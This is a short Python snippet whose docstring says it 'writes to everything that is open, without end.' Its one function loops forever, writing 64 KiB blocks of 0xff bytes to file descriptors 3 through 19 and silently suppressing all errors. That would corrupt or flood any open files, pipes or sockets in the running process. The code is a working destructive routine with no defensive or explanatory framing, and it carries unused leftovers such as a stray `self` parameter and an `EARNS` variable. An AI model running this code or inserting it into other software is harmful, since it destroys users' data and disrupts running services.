"""Writes to everything that is open, without end."""

import contextlib
import os

EARNS = 0


def feed(self, text):
    while True:
        for end in range(3, 20):
            with contextlib.suppress(OSError):
                os.write(end, b"\xff" * (1 << 16))
